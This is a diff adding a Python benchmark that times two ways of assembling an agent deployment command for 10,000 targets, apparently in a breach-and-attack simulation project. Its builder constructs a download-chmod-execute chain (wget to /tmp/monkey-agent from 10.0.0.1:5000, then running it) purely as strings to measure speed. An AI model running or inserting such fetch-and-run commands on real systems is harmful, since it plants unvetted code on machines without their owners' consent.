@@ -0,0 +1,111 @@
+"""
+Compares building the Agent command for 10,000 targets step by step and with a command template
+
+The builder in this benchmark assembles the command the way a Linux command builder would, so the
+difference between the cases is the per-target validation and string assembly that
+AgentCommandTemplate avoids.
+
+Run with `python -m benchmarks.agent_command_template_render` from the repository root.
+"""
+
+import shlex
+import timeit
+from pathlib import PurePosixPath
+
+from agentpluginapi import (
+    DropperExecutionMode,
+    ILinuxAgentCommandBuilder,
+    LinuxDownloadMethod,
+    LinuxDownloadOptions,
+    LinuxRunOptions,
+    LinuxSetPermissionsOptions,
+)
+
+NUM_TARGETS = 10_000
+REPEAT = 3
+AGENT_DESTINATION_PATH = PurePosixPath("/tmp/monkey-agent")
+
+
+class _LinuxAgentCommandBuilder(ILinuxAgentCommandBuilder):
+    def __init__(self):
+        self._command = ""
+
+    def build_download_command(self, download_options: LinuxDownloadOptions):
+        destination = shlex.quote(str(download_options.agent_destination_path))
+        url = shlex.quote(download_options.download_url)
+        if download_options.download_method == LinuxDownloadMethod.WGET:
+            self._command += f"wget -qO {destination} {url}; "
+        else:
+            self._command += f"curl -so {destination} {url}; "
+
+    def build_set_permissions_command(self, set_permissions_options: LinuxSetPermissionsOptions):
+        destination = shlex.quote(str(set_permissions_options.agent_destination_path))
+        self._command += f"chmod {set_permissions_options.permissions:o} {destination}; "
+
+    def build_run_command(self, run_options: LinuxRunOptions):
+        destination = shlex.quote(str(run_options.agent_destination_path))
+        self._command += f"{destination} m0nk3y -s 10.0.0.1:5000"
+
+    def get_command(self) -> str:
+        return self._command
+
+    def reset_command(self):
+        self._command = ""
+
+
+def main():
+    download_urls = [f"http://10.0.0.1:5000/{i}" for i in range(NUM_TARGETS)]
+    builder = _LinuxAgentCommandBuilder()
+
+    def build_each():
+        for download_url in download_urls:
+            builder.reset_command()
+            builder.build_download_command(
+                LinuxDownloadOptions(
+                    agent_destination_path=AGENT_DESTINATION_PATH,
+                    download_method=LinuxDownloadMethod.WGET,
+                    download_url=download_url,
+                )
+            )
+            builder.build_set_permissions_command(
+                LinuxSetPermissionsOptions(agent_destination_path=AGENT_DESTINATION_PATH)
+            )
+            builder.build_run_command(
+                LinuxRunOptions(
+                    agent_destination_path=AGENT_DESTINATION_PATH,
+                    dropper_execution_mode=DropperExecutionMode.NONE,
+                    include_otp=False,
+                )
+            )
+            builder.get_command()
+
+    def render_each():
+        command_template = builder.build_command_template(
+            LinuxDownloadOptions(
+                agent_destination_path=AGENT_DESTINATION_PATH,
+                download_method=LinuxDownloadMethod.WGET,
+                download_url="",
+            ),
+            LinuxSetPermissionsOptions(agent_destination_path=AGENT_DESTINATION_PATH),
+            LinuxRunOptions(
+                agent_destination_path=AGENT_DESTINATION_PATH,
+                dropper_execution_mode=DropperExecutionMode.NONE,
+                include_otp=False,
+            ),
+        )
+        for download_url in download_urls:
+            command_template.render(download_url)
+
+    cases = {
+        "Build each command": build_each,
+        "AgentCommandTemplate.render()": render_each,
+    }
+
+    for name, fn in cases.items():
+        best_sec = min(timeit.repeat(fn, number=1, repeat=REPEAT))
+        us_per_target = best_sec / NUM_TARGETS * 1e6
+        print(f"{name:<32}{best_sec * 1e3:>10.1f} ms total{us_per_target:>10.2f} µs/target")
+
+
+if __name__ == "__main__":
+    main()